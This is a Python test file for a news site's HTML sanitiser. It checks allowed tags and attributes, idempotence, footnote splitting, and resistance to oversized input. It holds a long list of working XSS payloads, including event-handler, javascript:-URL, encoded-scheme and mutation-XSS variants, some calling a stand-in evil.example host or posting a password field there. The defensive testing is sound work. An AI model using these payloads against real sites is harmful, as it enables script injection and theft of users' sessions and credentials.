"""The one sanitiser: what it keeps, what it drops, and that nothing which runs comes through."""

import re
import time
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from hypothesis import example, given, settings
from hypothesis import strategies as st

from spacenews import markup

# Spelled here a second time: a row added to the module's table by mistake is found by these.
ELEMENTS = {
    *("p", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "strong", "em", "a", "hr", "br", "sup", "sub"),
    *("table", "caption", "thead", "tbody", "tr", "th", "td", "cite", "code", "pre"),
    *("figure", "figcaption", "mark", "div"),
}
ATTRIBUTES = {
    ("blockquote", "class"): r"pull",
    ("a", "href"): r"(?!\s*(javascript|data|vbscript|file|blob|about)\s*:).*",
    ("th", "scope"): r"(col|row)(group)?",
    **{(cell, span): r"\d{1,3}" for cell in ("th", "td") for span in ("colspan", "rowspan")},
    ("figure", "data-image"): r"\d+",
    **{("figure", f"data-{words}"): r".*" for words in ("alt", "credit")},
    ("mark", "data-figure"): r"\d+",
    ("mark", "data-footnote"): r"1",
    **{("div", f"data-{kind}"): r"\d+" for kind in ("series", "dispute", "claim")},
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=data:,alert(1)></script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><style><img src onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=evil.class></applet>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&#1;script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)'>x</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://example.org/1'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href=x onmouseover=alert(1)//>x</a>",
    "<a href='https://example.org' target=_blank>x</a>",
    '<a href="x" style="position:fixed;inset:0">x</a>',
    "<p onclick=alert(1)>x</p>",
    "<p id=start name=csrfmiddlewaretoken>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus>x</textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<table><td class='x\"><script>alert(1)</script>' colspan='2\" onclick=alert(1)'>x</table>",
    "<th scope='col\" onclick=\"alert(1)'>x</th>",
    "<blockquote class='pull\" onclick=\"alert(1)'>x</blockquote>",
    "<blockquote cite='javascript:alert(1)' class='hidden'>x</blockquote>",
    "<mark data-figure='1\"><script>alert(1)</script>'>x</mark>",
    "<figure data-image='1 onload=alert(1)'><img src=x onerror=alert(1)><figcaption>x</figcaption></figure>",
    "<mark data-footnote='1\"><script>alert(1)</script>'>x</mark>",
    "<mark data-footnote=javascript:alert(1) onclick=alert(1)>x</mark>",
    "<p>x<mark data-footnote=1><script>alert(1)</script><a href='javascript:alert(1)'>y</a></mark></p>",
    "<figure data-image=1 data-alt='\"><img src=x onerror=alert(1)>'></figure>",
    "<figure data-image=1 data-alt='x' data-credit='y\" onmouseover=\"alert(1)' onload=alert(1)></figure>",
    '<figure data-image=1 data-credit="</figure><script>alert(1)</script>"></figure>',
    "<figure data-alt='&#1;\"><svg onload=alert(1)>' data-credit='<!--'></figure>",
    "<div data-series='{{ 7|safe }}' data-bind='constructor.constructor(\"alert(1)\")()'>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo '<script>alert(1)</script>' ?>",
    "</p><script>alert(1)</script><p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufeff<script>alert(1)</script>",
    "<a href='https://example.org/\"onmouseover=\"alert(1)'>x</a>",
    "<pre>\n\n<script>alert(1)</script></pre>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p title='`-->'><img alt='`' src=x onerror=alert(1)>",
    "<x contenteditable onbeforeinput=alert(1)>x</x>",
    "<b><i><u><s><span><font color=red>x",
]


class Reader(HTMLParser):
    """Notes each element and attribute of a piece of markup that is not in the tables above."""

    def __init__(self):
        super().__init__()
        self.foreign = []

    def handle_starttag(self, tag, attrs):
        if tag not in ELEMENTS:
            self.foreign.append(tag)
        for name, value in attrs:
            shape = ATTRIBUTES.get((tag, name))
            if shape is None or not re.fullmatch(shape, value or "", re.IGNORECASE | re.DOTALL):
                self.foreign.append((tag, name, value))

    def handle_comment(self, data):
        self.foreign.append(f"<!--{data}-->")

    handle_decl = handle_pi = unknown_decl = handle_comment


def foreign(html: str) -> list:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.foreign


def test_there_are_at_least_sixty_payloads():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_outside_the_table_comes_through(payload):
    assert foreign(markup.clean(payload)) == []
    assert foreign(markup.clean(f"<ul><li>{payload}</li></ul><table><tr><td>{payload}")) == []


def test_the_reader_above_would_find_what_is_foreign():
    found = foreign('<p onclick="x"><script>1</script><a href="javascript:x" id="y"><!-- z -->')

    assert found == [
        ("p", "onclick", "x"),
        "script",
        ("a", "href", "javascript:x"),
        ("a", "id", "y"),
        "<!-- z -->",
    ]


@pytest.mark.parametrize(
    "html",
    [
        "<h2>A</h2><h3>B</h3><h4>C</h4><p>D <strong>e</strong> <em>f</em><br>g</p><hr>",
        '<ul><li>a</li></ul><ol><li><p>b</p></li></ol><blockquote class="pull"><p>c</p></blockquote>',
        "<blockquote><p>a</p></blockquote><pre><code>b\n c</code></pre>",
        '<table><caption>a</caption><thead><tr><th scope="col" colspan="2">b</th></tr></thead>'
        '<tbody><tr><th scope="row">c</th><td rowspan="3">d</td></tr></tbody></table>',
        "<p>10<sup>3</sup> H<sub>2</sub>O <cite>SHINE</cite></p>",
        '<p><a href="https://example.org/?a=1&amp;b=2">a</a> <a href="/firms/x/">b</a> <a href="#c">c</a> '
        '<a href="mailto:a@example.org">d</a> <a href="tel:+123">e</a></p>',
        '<figure data-image="7"><figcaption>a</figcaption></figure><p><mark data-figure="12">$10bn</mark></p>',
        '<figure data-alt="A “rocket”, 5 &lt; 6 &amp; more" data-credit="Ann" data-image="7"></figure>',
        '<figure data-image="7" data-alt=""></figure>',
        '<p>a<mark data-footnote="1">b, <em>c</em>, <a href="/d/">e</a>, <mark data-figure="1">f</mark></mark></p>',
        '<div data-series="1"></div><div data-dispute="2"></div><div data-claim="3"></div>',
        "<p>蓝箭航天 &amp; “Zhuque-3” 🚀 &lt;b&gt;&nbsp;</p>",
    ],
)
def test_what_the_table_names_is_kept_as_it_is(html):
    assert markup.clean(html) == html


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<blockquote class="pull wide">a</blockquote>', "<blockquote>a</blockquote>"),
        ('<p class="x" lang="id" dir="rtl">a</p>', "<p>a</p>"),
        ('<mark data-figure="12x">a</mark>', "<mark>a</mark>"),
        ('<mark data-footnote="2">a</mark>', "<mark>a</mark>"),
        (
            '<figure data-image="1" data-credit="" data-alt="a\nb"></figure>',
            '<figure data-image="1"></figure>',
        ),
        (f'<figure data-alt="{"a" * 501}"></figure>', "<figure></figure>"),
        ('<div data-series="0">a</div>', "<div>a</div>"),
        ("<td>a</td>", "a"),
        ("<p>a<script>b</script><style>c</style><title>d</title>e</p>", "<p>ae</p>"),
        ("<section><p>a</p></section><b>b</b>", "<p>a</p>b"),
        ("<p>a\x00b\x07c\x85d\ufffee&#1;f&#xFFFE;g</p>", "<p>abcdefg</p>"),
        ("<p>a\ud800b</p>", "<p>ab</p>"),
        ("<p>a\r\nb\rc</p>", "<p>a\nb\nc</p>"),
        ("<pre>" + "\n" * 30 + "a</pre>", "<pre>a</pre>"),
        ('<a href="/a&#1;b">c</a>', "<a>c</a>"),
    ],
)
def test_what_it_does_not_name_goes_and_the_words_stay(html, kept):
    assert markup.clean(html) == kept


pieces = st.sampled_from(
    [
        *(f"<{tag}>" for tag in [*sorted(ELEMENTS), "b", "button", "svg", "math", "select", "form", "nobr"]),
        *(f"</{tag}>" for tag in [*sorted(ELEMENTS), "b", "button", "svg", "math", "select", "form", "nobr"]),
        *(
            "<a href='x'>",
            "<td colspan=2>",
            "<!--",
            "-->",
            "<![CDATA[",
            "&#1;",
            "&amp;lt;",
            "&#13;",
            '"',
            "'",
        ),
        *(
            "<title>",
            "<textarea>",
            "<style>",
            "<script>",
            "<noscript>",
            "<template>",
            "\n",
            "\r",
            "\x00",
            "x",
        ),
    ]
)
anything = st.one_of(
    st.text(st.characters(exclude_categories=())), st.lists(pieces, max_size=30).map("".join)
)


@given(anything)
@example("<p><button><p>x")
@example("<pre>\n\na</pre>")
@example("<a><table><a><p><a>")
@settings(max_examples=400, deadline=None)
def test_cleaning_twice_changes_nothing(html):
    once = markup.clean(html)

    assert markup.clean(once) == once
    assert foreign(once) == []
    once.encode()


HOSTILE = "<div>" * 200_000, "<em><p>" * 400_000, "&" * 2_000_000, "word " + "«" * 150_000


@pytest.mark.parametrize("html", HOSTILE)
def test_what_would_take_minutes_to_read_is_refused_at_once(html):
    began = time.thread_time()

    with pytest.raises(ValidationError, match="more markup"):
        markup.clean(html)

    assert time.thread_time() - began < 5


def test_a_long_honest_body_is_not_refused():
    row = "<tr><th scope='row'>a</th>" + "<td>1 &amp; 2</td>" * 10 + "</tr>"

    assert markup.clean(f"<table>{row * 2_000}</table>").count("<td>") == 20_000


@given(anything)
@settings(max_examples=200, deadline=None)
def test_plain_text_is_one_line_without_controls(html):
    text = markup.plain(html)

    assert text == " ".join(text.split())
    assert markup.tidy(text) == text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<h2>A</h2><p>b<em>c</em> d<br>e</p>", "A bc d e"),
        ("<ul><li>a</li><li>b</li></ul>", "a b"),
        ("<p>1 &lt; 2 &amp;amp; 3&nbsp;4</p>", "1 < 2 &amp; 3 4"),
        ('<p><a href="/a?b=>c">d</a></p>', "d"),
        (
            '<p>a <mark data-figure="1">$10bn</mark></p><figure data-image="1"><figcaption>b</figcaption></figure>',
            "a $10bn b",
        ),
        (
            '<p>a<mark data-footnote="1">b <em>c</em></mark>, d</p><p>e<mark data-footnote="1">f</mark></p>',
            "a, d e b c f",
        ),
    ],
)
def test_plain_keeps_the_words_apart(html, text):
    assert markup.plain(html) == text


@pytest.mark.parametrize(
    ("html", "text", "notes"),
    [
        ("<p>a</p>", "<p>a</p>", []),
        ('<p>a<mark data-footnote="1">b</mark> c</p>', "<p>a c</p>", ["b"]),
        (
            '<mark data-figure="1">a<mark data-footnote="1">b<mark data-figure="2">c</mark></mark> d</mark>',
            '<mark data-figure="1">a d</mark>',
            ['b<mark data-figure="2">c</mark>'],
        ),
        (
            '<mark data-footnote="1">a<mark data-footnote="1">b</mark></mark><mark data-footnote="1"></mark>',
            "",
            ['a<mark data-footnote="1">b</mark>', ""],
        ),
        ('<a href="> data-footnote=">a</a>', '<a href="> data-footnote=">a</a>', []),
    ],
)
def test_footnotes_are_told_apart_from_the_text(html, text, notes):
    assert markup.apart(html) == (text, notes)


@given(anything)
@settings(max_examples=200, deadline=None)
def test_telling_them_apart_loses_no_word(html):
    once = markup.clean(html.replace("<mark>", '<mark data-footnote="1">'))
    text, notes = markup.apart(once)

    def words(part):
        return sorted(re.sub("<[^>]*>", "", part))

    assert words(once) == sorted(words(text) + words("".join(notes)))
    assert "data-footnote" not in text


def test_tidy_keeps_tabs_and_lines_and_all_scripts():
    text = "a\tb\nc é 蓝箭 🚀 العربية \u200d"

    assert markup.tidy(text) == text
    assert markup.tidy("a\x00b\x1b[0mc\ud83dd\r\ne") == "ab[0mcd\ne"


def test_what_is_shown_is_safe_for_a_template_and_was_cleaned():
    shown = markup.shown("<p>a</p><script>b</script>")

    assert (shown, shown.__html__()) == ("<p>a</p>", "<p>a</p>")


@pytest.mark.browser
def test_no_payload_runs_in_a_browser_without_a_policy(chromium):
    page_of = "<!doctype html><body>{}<p id='end'>end</p>".format
    dialogs = []
    with chromium.new_page() as page:
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.set_content(page_of("<img src=x onerror=alert('live')>"))
        page.wait_for_timeout(200)
        for payload in PAYLOADS:
            page.set_content(page_of(markup.clean(payload)))
        page.wait_for_timeout(200)

    assert dialogs == ["live"]
